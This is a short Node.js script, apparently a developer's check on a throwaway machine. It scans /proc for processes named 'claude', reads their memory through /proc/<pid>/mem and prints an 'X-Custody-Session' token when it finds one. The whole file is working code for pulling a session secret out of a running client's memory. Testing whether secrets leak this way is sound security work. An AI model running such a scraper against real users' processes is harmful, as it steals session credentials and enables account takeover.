// Run in a throw-away machine as the developer: looks for the session's secret in the memory of a running client.
import { closeSync, openSync, readFileSync, readSync, readdirSync } from 'node:fs'

const mark = Buffer.from('X-Custody-Session')

for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  try {
    if (!readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('claude')) continue
    if (
      Number(pid) === process.pid ||
      readFileSync(`/proc/${pid}/comm`, 'utf8').trim() !== 'claude'
    )
      continue
    search(pid)
  } catch {
    // Gone, or not ours to read.
  }
}

function search(pid) {
  const memory = openSync(`/proc/${pid}/mem`, 'r')
  for (const line of readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n')) {
    const range = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line)
    if (range === null) continue
    const [from, to] = [BigInt(`0x${range[1]}`), BigInt(`0x${range[2]}`)]
    if (to - from > 1n << 30n) continue
    for (let at = from; at < to; at += 1n << 24n) {
      const buffer = Buffer.alloc(Number(to - at < 1n << 24n ? to - at : 1n << 24n))
      try {
        readSync(memory, buffer, 0, buffer.length, at)
      } catch {
        continue
      }
      for (let found = buffer.indexOf(mark); found >= 0; found = buffer.indexOf(mark, found + 1)) {
        const secret = /X-Custody-Session"?:? ?"?(\d+\.\d+\.[A-Za-z0-9_-]{43})/.exec(
          buffer.toString('latin1', found, found + 140),
        )
        if (secret !== null) {
          console.log(secret[1])
          closeSync(memory)
          process.exit(0)
        }
      }
    }
  }
}
